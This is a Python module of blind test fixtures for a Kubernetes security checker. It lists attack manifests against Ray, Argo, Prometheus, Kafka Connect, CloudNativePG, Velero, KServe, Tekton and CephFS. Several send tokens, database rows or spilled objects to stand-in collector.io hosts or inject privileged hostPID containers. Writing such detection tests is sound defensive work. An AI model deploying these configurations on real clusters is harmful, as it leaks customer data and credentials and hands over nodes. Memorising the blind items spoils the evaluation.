"""Attacks on clusters by work, storage, operators of data, models, records and pipelines (2026-11-29, fourteenth set,
half b, blind).

Objects by the documentation of their projects; what is not marked as read is as known. Values of charts are in
`fourteenth_cluster_b_charts`.
"""

import json

from ..blind import IMAGE, ME, TAGS, crd, k8s, meta, pod
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
MONEY = ("FJ-COST-", "FJ-ESC-")
STACK = Given("pulumi:pulumi:Stack", {}, "falaj-prod-uae")
SCRAPED = {"name": "figures", "key": "token"}
ONE_GPU = {"cpu": "4", "memory": "16Gi", "nvidia.com/gpu": "1"}


def _template(resources: object = None, **spec: object) -> dict[str, object]:
    """Returns the template of a pod that is compliant, unless the arguments say otherwise."""
    container = {"resources": {"requests": resources, "limits": resources}} if resources else {}
    return {"metadata": {"labels": {**TAGS, "app": "x"}}, "spec": pod(container, **spec)}


def _top(kind: str, name: str, spec: object, **labels: str) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": {**TAGS, **labels}}, "spec": spec}, name)


def _text(name: str, namespace: str, key: str, text: str) -> Given:
    return k8s("core/v1:ConfigMap", {"metadata": meta(name, namespace), "data": {key: text}}, name)


SPILL = json.dumps({"object_spilling_config": json.dumps(
    {"type": "smart_open", "params": {"uri": "s3://collector-spill/objects"}})})  # fmt: skip
CLEANER = json.dumps({"hostPID": True, "containers": [{
    "name": "main", "image": IMAGE, "command": ["/app/tool"], "securityContext": {"privileged": True}}]})  # fmt: skip
STEP = {
    "image": IMAGE, "command": ["/app/tool"],
    "securityContext": {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True,
                        "runAsUser": 10001, "capabilities": {"drop": ["ALL"]},
                        "seccompProfile": {"type": "RuntimeDefault"}},
    "resources": {"requests": {"cpu": "1", "memory": "1Gi"}, "limits": {"cpu": "1", "memory": "1Gi"}}}  # fmt: skip
TENANT = {"tenantName": "payments", "tenantId": "7d4b1f0a-2c55-4c1e-9d0f-5a1b2c3d4e5f", "oidc": {
    "issuerURL": "https://login.example.ae/realms/bank", "secret": {"name": "logs-oidc"}}}  # fmt: skip
SIGN_IN = {"type": "tls", "certificateAndKey": {"secretName": "x", "certificate": "user.crt", "key": "user.key"}}
CONNECT = {
    "version": "4.1.0", "replicas": 2, "image": IMAGE, "bootstrapServers": "events-kafka-bootstrap:9093",
    "tls": {"trustedCertificates": [{"secretName": "ca", "pattern": "*.crt"}]}, "authentication": SIGN_IN,
    "template": {"pod": {"metadata": {"labels": TAGS}}},
    "config": {"group.id": "sources", "connector.client.config.override.policy": "All"}}  # fmt: skip
SOURCE = {
    "database.hostname": "ledger-rw.team-a.svc", "database.sslmode": "verify-full", "database.dbname": "ledger",
    "topic.prefix": "ledger", "plugin.name": "pgoutput",
    "producer.override.bootstrap.servers": "broker.collector.io:9093",
    "producer.override.security.protocol": "SSL"}  # fmt: skip
MODIFIER = """version: v1
resourceModifierRules:
- conditions:
    groupResource: deployments.apps
    resourceNameRegex: ".*"
    namespaces:
    - payments
  mergePatches:
  - patchData: |
      spec:
        template:
          spec:
            hostPID: true
            initContainers:
            - name: prepare
              image: registry.collector.io/tools/prepare:v1
              securityContext:
                privileged: true
"""
FETCHER = json.dumps({
    "image": "registry.collector.io/kserve/storage-initializer:v0.16.0", "memoryRequest": "100Mi",
    "memoryLimit": "1Gi", "cpuRequest": "100m", "cpuLimit": "1", "enableModelcar": False})  # fmt: skip

ATTACKS = (
    Attack("objects of Ray that find no room in memory lie in a stranger's bucket", OPEN, (
        STACK, crd("ray.io/v1:RayCluster", {
            "rayVersion": "2.52.0", "authOptions": {"mode": "token"}, "headGroupSpec": {
                "rayStartParams": {"system-config": f"'{SPILL}'"}, "template": _template()}})),
        "critical", "customers' rows that a training has in memory leave the bank when memory is full (Ray, 'Object "
        "Spilling', smart_open; RayStartParams of KubeRay are options of `ray start`)"),
    Attack("the pods that clear up after a workflow have the processes of their machine", OPEN, (
        crd("argoproj.io/v1alpha1:Workflow", {
            "entrypoint": "main", "serviceAccountName": "app", "podMetadata": {"labels": TAGS},
            "artifactGC": {"strategy": "OnWorkflowCompletion", "serviceAccountName": "app", "podSpecPatch": CLEANER},
            "templates": [{
                "name": "main", "metadata": {"labels": TAGS}, "container": STEP,
                "outputs": {"artifacts": [{"name": "out", "path": "/work/out", "s3": {"key": "out"}}]}}]}),),
        "critical", "a privileged program of the team's choice runs on the node (Argo Workflows, 'Artifacts', "
        "artifactGC.podSpecPatch, an example of a workflow with it read 2026-11-29)"),
    Attack("a service of a team says who may read the logs of payments", OPEN, (
        k8s("loki.grafana.com/v1:LokiStack", {"metadata": meta("logs", "monitoring"), "spec": {
            "size": "1x.small", "storageClassName": "encrypted", "storage": {
                "schemas": [{"version": "v13", "effectiveDate": "2026-01-01"}],
                "secret": {"name": "logs-store", "type": "s3"}},
            "tenants": {"mode": "dynamic", "authentication": [TENANT], "authorization": {
                "opa": {"url": "https://rights.team-a.svc.cluster.local:8181/v1/data/logs/allow"}}}}}),),
        "major", "the team lets itself in to the logs of each tenant (Loki Operator, 'API', AuthorizationSpec, "
        "opa)"),
    Attack("the token for a target's figures goes to the address that a relabelling writes", OPEN, (
        crd("monitoring.coreos.com/v1:ServiceMonitor", {
            "selector": {"matchLabels": {"app": "x"}}, "endpoints": [{
                "port": "metrics", "scheme": "https", "interval": "30s",
                "authorization": {"type": "Bearer", "credentials": SCRAPED},
                "relabelings": [{
                    "action": "replace", "targetLabel": "__address__",
                    "replacement": "figures.collector.io:443"}]}]}),),
        "critical", "Prometheus calls the stranger with the bank's token, every half minute (Prometheus, "
        "'Configuration', relabel_config, __address__)"),
    Attack("rows of a database are produced to the brokers of a stranger by an override", OPEN, (
        k8s("kafka.strimzi.io/v1:KafkaConnect", {
            "metadata": meta("sources", annotations={"strimzi.io/use-connector-resources": "true"}),
            "spec": CONNECT}, "sources"),
        k8s("kafka.strimzi.io/v1:KafkaConnector", {
            "metadata": {**meta("ledger"), "labels": {**TAGS, "strimzi.io/cluster": "sources"}}, "spec": {
                "class": "io.debezium.connector.postgresql.PostgresConnector", "tasksMax": 1, "config": SOURCE}},
            "ledger")),
        "critical", "each change of the ledger leaves the country (Apache Kafka, 'Kafka Connect', "
        "connector.client.config.override.policy, KIP-458)"),
    Attack("a server of PostgreSQL loads libraries of an image of a stranger", OPEN, (
        crd("postgresql.cnpg.io/v1:Cluster", {
            "instances": 2, "imageName": IMAGE, "storage": {"size": "100Gi", "storageClass": "encrypted"},
            "inheritedMetadata": {"labels": TAGS}, "postgresql": {
                "shared_preload_libraries": ["vector"], "extensions": [{
                    "name": "vector", "image": {"reference": "registry.collector.io/pg/vector:0.8.1-18-trixie"}}]}}),),
        "critical", "the library runs in the server and reads each row (CloudNativePG, 'Image Volume Extensions', "
        "read 2026-11-29)"),
    Attack("each pod writes figures into Prometheus", OPEN, (
        k8s("monitoring.coreos.com/v1:Prometheus", {"metadata": meta("figures", "monitoring"), "spec": {
            "replicas": 2, "retention": "15d", "serviceAccountName": "prometheus", "version": "v3.8.0",
            "podMetadata": {"labels": TAGS}, "enableRemoteWriteReceiver": True,
            "arbitraryFSAccessThroughSMs": {"deny": True},
            "securityContext": {"runAsNonRoot": True, "runAsUser": 10001,
                                "seccompProfile": {"type": "RuntimeDefault"}}}}),),
        "major", "a pod of any tenant invents load, which autoscalers answer with machines, and hides alerts: the "
        "receiver asks nobody who he is (Prometheus Operator, 'API', enableRemoteWriteReceiver)"),
    Attack("records of payments are routed to the collector of a team", OPEN, (
        _top("logging.banzaicloud.io/v1beta1:Logging", "team-a", {
            "controlNamespace": "team-a", "watchNamespaces": ["payments"], "fluentd": {
                "security": {"podSecurityContext": {"runAsNonRoot": True, "runAsUser": 100}}}}, tenant="team-a"),
        _top("logging.banzaicloud.io/v1beta1:LoggingRoute", "tenants", {
            "source": "ops", "targets": {"matchLabels": {"tenant": "team-a"}}})),
        "major", "the team reads what payments records (Logging operator, 'LoggingRoute', read 2026-11-29: the "
        "records of watchNamespaces go to the target)"),
    Attack("notebooks of a profile take the role of payments", OPEN, (
        _top("kubeflow.org/v1:Profile", "team-a", {
            "owner": {"kind": "User", "name": "lead@example.ae"}, "plugins": [{
                "kind": "AwsIamForServiceAccount", "spec": {
                    "awsIamRole": f"arn:aws:iam::{ME}:role/payments-ledger", "annotateOnly": False}}]}),),
        "critical", "each notebook of the team reads the ledger; the controller adds the account of the team to the "
        "role's trust (awslabs/kubeflow-manifests, 'Profiles', AwsIamForServiceAccount, read 2026-11-29)"),
    Attack("executors of Spark are as a file in a bucket says", OPEN, (
        STACK, crd("sparkoperator.k8s.io/v1beta2:SparkApplication", {
            "type": "Python", "mode": "cluster", "sparkVersion": "4.0.1", "image": IMAGE,
            "mainApplicationFile": "local:///opt/app/main.py", "restartPolicy": {"type": "Never"},
            "sparkConf": {
                "spark.kubernetes.executor.podTemplateFile": "s3a://awsuae-artifacts-bucket/pods/executor.yaml"},
            "driver": {"cores": 1, "memory": "2g", "serviceAccount": "app", "labels": TAGS},
            "executor": {"instances": 2, "cores": 2, "memory": "4g", "labels": TAGS}})),
        "critical", "whoever writes the file starts privileged containers with the files of the node, which nobody "
        "evaluates (Spark, 'Running Spark on Kubernetes', Pod Template, s3a as seen in programs, read 2026-11-29)"),
    Attack("a step of a build is whatever a public repository says", OPEN, (
        crd("tekton.dev/v1:Task", {"steps": [{
            "name": "scan", "ref": {"resolver": "git", "params": [
                {"name": "url", "value": "https://github.com/collector/steps.git"},
                {"name": "revision", "value": "main"}, {"name": "pathInRepo", "value": "scan.yaml"}]}}]}),),
        "critical", "the stranger runs programs with the keys of each build (Tekton, 'Git Resolver' and "
        "'StepActions', read 2026-11-29)"),
    Attack("the program that fetches every model is a stranger's", OPEN, (
        _text("inferenceservice-config", "kserve", "storageInitializer", FETCHER),),
        "critical", "it runs in each pod that serves, with the keys of the store, and hands over other weights "
        "(kserve/kserve, config/configmap/inferenceservice.yaml, storageInitializer; shapes read 2026-11-29)"),
    Attack("what is restored of payments is changed by a text on the way", OPEN, (
        _text("on-restore", "velero", "rules.yaml", MODIFIER),
        k8s("velero.io/v1:Restore", {"metadata": meta("payments", "velero"), "spec": {
            "backupName": "daily", "includedNamespaces": ["payments"], "existingResourcePolicy": "update",
            "resourceModifier": {"kind": "ConfigMap", "name": "on-restore"}}}, "payments")),
        "critical", "pods of payments start a privileged program of a stranger (Velero, 'Restore Resource Modifiers', "
        "read 2026-11-29)"),
    Attack("the volume of a team is the folder of all volumes", OPEN, (
        k8s("core/v1:PersistentVolume", {"metadata": {"name": "files", "labels": TAGS}, "spec": {
            "capacity": {"storage": "100Gi"}, "accessModes": ["ReadWriteMany"], "storageClassName": "",
            "persistentVolumeReclaimPolicy": "Retain", "claimRef": {"namespace": "team-a", "name": "files"}, "csi": {
                "driver": "rook-ceph.cephfs.csi.ceph.com", "volumeHandle": "files",
                "nodeStageSecretRef": {"name": "ceph", "namespace": "team-a"}, "volumeAttributes": {
                    "clusterID": "rook-ceph", "fsName": "shared", "staticVolume": "true",
                    "rootPath": "/volumes/csi"}}}}, "files"),),
        "critical", "the team reads and writes the files of each claim of the cluster (ceph/ceph-csi, "
        "docs/static-pvc.md, rootPath, read 2026-11-29)"),
    Attack("a training that fails starts again for ever", MONEY, (
        STACK, k8s("batch/v1:Job", {"metadata": meta("pretraining"), "spec": {
            "parallelism": 1, "completions": 1, "backoffLimit": 3, "ttlSecondsAfterFinished": 3600,
            "podFailurePolicy": {"rules": [
                {"action": "Ignore", "onExitCodes": {"operator": "NotIn", "values": [42]}}]},
            "template": _template(ONE_GPU, restartPolicy="Never")}})),
        "minor", "failures do not count, so a machine with a GPU is paid for until somebody deletes the job "
        "(Kubernetes, 'Pod failure policy', Ignore)"),
)  # fmt: skip
